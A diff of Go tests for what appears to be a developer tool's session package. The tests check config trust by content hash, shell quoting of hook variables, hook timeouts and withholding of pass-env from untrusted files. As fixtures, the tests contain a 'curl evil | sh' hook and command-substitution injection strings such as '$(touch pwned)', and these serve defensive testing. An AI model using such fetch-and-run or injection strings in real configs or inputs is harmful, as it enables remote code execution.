@@ -1,4 +1,4 @@
-package config
+package session
 
 import (
 	"context"
@@ -7,19 +7,22 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/clada-dev/clada/config"
 )
 
+// Trust is by content: a trusted file that changes is untrusted again.
 func TestTrustByContentHash(t *testing.T) {
 	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
 	t.Setenv("HOME", t.TempDir())
 	dir := t.TempDir()
-	path := filepath.Join(dir, FileName)
-	write := func(s string) *Config {
+	path := filepath.Join(dir, config.FileName)
+	write := func(s string) *config.Config {
 		t.Helper()
 		if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
 			t.Fatal(err)
 		}
-		c, err := Load(dir, "")
+		c, err := LoadConfig(dir, "")
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -41,7 +44,7 @@ func TestTrustByContentHash(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if got := tr.HooksBlocked(c); got != "" || tr.State(c) != Trusted {
+	if got := tr.HooksBlocked(c); got != "" || tr.State(c) != config.Trusted {
 		t.Fatalf("trusted: %q", got)
 	}
 	c = write("hooks:\n  after: [curl evil | sh]\n")
@@ -54,6 +57,7 @@ func TestTrustByContentHash(t *testing.T) {
 	}
 }
 
+// Hook variables come from an LLM's answer: they never run as code.
 func TestHookVariablesAreQuoted(t *testing.T) {
 	dir := t.TempDir()
 	v := HookVars{Summary: `it's "$(touch pwned)"`, Files: []string{"a b.txt", "`touch pwned2`"}, ApplyID: "id-1"}
@@ -73,9 +77,54 @@ func TestHookVariablesAreQuoted(t *testing.T) {
 	}
 }
 
+// A hook past its timeout is killed with its whole process group.
 func TestHookTimeoutKillsGroup(t *testing.T) {
 	h := runHook(context.Background(), t.TempDir(), "before", "sleep 30 & sleep 30", HookVars{}, 200*time.Millisecond)
 	if !strings.HasPrefix(h.Err, "timed out after 200ms") {
 		t.Fatalf("Err = %q", h.Err)
+	}
+}
+
+// LoadConfig finds the .clada.yaml of a parent directory, and Open fills
+// from it only what no flag set; pass-env of an untrusted file is withheld
+// and the session says why.
+func TestOpenFillsWhatNoFlagSet(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	top := t.TempDir()
+	deep := filepath.Join(top, "a", "b")
+	if err := os.MkdirAll(deep, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	cfg := filepath.Join(top, config.FileName)
+	if err := os.WriteFile(cfg, []byte("format: text\ntimeout: 5s\nmax-output: 1MB\nmax-report: 1K\npass-env: [MY_TOKEN]\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	c, err := LoadConfig(deep, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if c.Path != cfg || c.Dir != top || c.Format != "text" {
+		t.Fatalf("LoadConfig from %s = %+v", deep, c)
+	}
+	flags := map[string]bool{"timeout": true}
+	in := Input{Root: deep, Explicit: func(f string) bool { return flags[f] }, MaxReport: 50 << 10}
+	s, err := Open(in)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if s.Engine.Timeout != 30*time.Second || s.Engine.MaxOutput != 1<<20 || s.Format != "text" || s.MaxReport != 1<<10 {
+		t.Errorf("timeout %s (the flag's), max-output %d, format %q, max-report %d (the file's)", s.Engine.Timeout, s.Engine.MaxOutput, s.Format, s.MaxReport)
+	}
+	if len(s.Engine.PassEnv) != 0 || !strings.Contains(s.PassEnvIgnored, "pass-env of "+cfg+" not honoured: the file is not trusted") {
+		t.Errorf("untrusted pass-env: %v, %q", s.Engine.PassEnv, s.PassEnvIgnored)
+	}
+	if err := s.Trust.Add(s.Config); err != nil {
+		t.Fatal(err)
+	}
+	if s, err = Open(in); err != nil {
+		t.Fatal(err)
+	}
+	if len(s.Engine.PassEnv) != 1 || s.Engine.PassEnv[0] != "MY_TOKEN" || s.PassEnvIgnored != "" {
+		t.Errorf("trusted pass-env: %v, %q", s.Engine.PassEnv, s.PassEnvIgnored)
 	}
 }
